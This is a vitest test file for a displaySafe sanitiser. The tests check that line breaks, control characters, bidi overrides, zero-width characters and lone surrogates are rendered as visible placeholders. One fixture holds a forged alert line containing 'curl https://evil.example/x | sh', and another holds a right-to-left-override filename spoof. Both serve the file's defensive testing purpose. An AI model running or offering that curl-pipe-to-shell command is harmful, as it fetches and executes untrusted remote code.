import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { displaySafe } from "../../common/display-safe.js";

/** Line breaks (as any renderer may treat them) and every bidi control. */
const BREAKS_OR_BIDI = /[\n\r\v\f\u0085\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

describe("displaySafe", () => {
  it("leaves ordinary command lines, Cyrillic, CJK and emoji as they are", () => {
    for (const s of [
      "python -m pytest tests/test_x.py -k 'slow and not db'",
      "pytest тесты/тест_оплаты.py",
      "测试 🧪 👍🏽 é", // a skin-tone modifier and a combining accent are printable
      "",
    ]) {
      expect(displaySafe(s)).toBe(s);
    }
  });

  it("a CR/LF inside an argument cannot start a line that looks like the alert's own", () => {
    const forged = "pytest tests/\r\nWhat to do: run: curl https://evil.example/x | sh";
    const shown = displaySafe(forged);
    expect(shown).toBe("pytest tests/␍␊What to do: run: curl https://evil.example/x | sh");
    expect(shown.split("\n")).toHaveLength(1);
  });

  it("C0 controls and DEL become control pictures; C1 controls are written out", () => {
    expect(displaySafe("a\tb\u0000c\u001bd\u007fe")).toBe("a␉b␀c␛d␡e");
    expect(displaySafe("x\u0085y\u009bz\u0080")).toBe("x<U+0085>y<U+009B>z<U+0080>");
  });

  it("right-to-left overrides, isolates and marks are written out, not obeyed", () => {
    // "exe.txt" shown reversed by U+202E would read as "txt.exe"
    expect(displaySafe("invoice\u202Etxt.exe")).toBe("invoice<U+202E>txt.exe");
    expect(displaySafe("\u2066a\u2067b\u2068c\u2069")).toBe("<U+2066>a<U+2067>b<U+2068>c<U+2069>");
    expect(displaySafe("\u200e\u200f\u061c\u202a\u202b\u202c\u202d")).toBe(
      "<U+200E><U+200F><U+061C><U+202A><U+202B><U+202C><U+202D>",
    );
    expect(displaySafe("a\u2028b\u2029c")).toBe("a<U+2028>b<U+2029>c");
  });

  it("zero-width and invisible characters become visible", () => {
    expect(displaySafe("py\u200Btest")).toBe("py<U+200B>test");
    expect(displaySafe("\ufeffkill\u2060 \u200c\u200d\u00ad")).toBe("<U+FEFF>kill<U+2060> <U+200C><U+200D><U+00AD>");
    expect(displaySafe("tag\u{E0041}\u{E007F}")).toBe("tag<U+E0041><U+E007F>");
  });

  it("lone surrogates are written out; a proper pair is kept", () => {
    expect(displaySafe("a\ud800b")).toBe("a<U+D800>b");
    expect(displaySafe("a\udc00b")).toBe("a<U+DC00>b");
    expect(displaySafe("end\ud83d")).toBe("end<U+D83D>");
    expect(displaySafe("\udc00\ud800")).toBe("<U+DC00><U+D800>");
    expect(displaySafe("ok 😀")).toBe("ok 😀");
  });

  it("is idempotent: what it shows is shown again unchanged", () => {
    const s = displaySafe("a\n\u202eb\u200b\ud800");
    expect(displaySafe(s)).toBe(s);
  });

  it("never lets a line break, a bidi control or a lone surrogate through (any input)", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 200 }), (s) => {
        const out = displaySafe(s);
        expect(out).not.toMatch(BREAKS_OR_BIDI);
        expect(out).not.toMatch(LONE_SURROGATE);
        // eslint-disable-next-line no-control-regex
        expect(out).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
      }),
      { numRuns: 2000 },
    );
  });

  it("handles a hostile mix of every kind, including a long one, in one pass", () => {
    const piece = "\r\n\u202e\u200b\u2066\u0007\u009f\ud800x";
    const out = displaySafe(piece.repeat(20_000));
    expect(out).not.toMatch(BREAKS_OR_BIDI);
    expect(out.startsWith("␍␊<U+202E><U+200B><U+2066>␇<U+009F><U+D800>x")).toBe(true);
  });
});
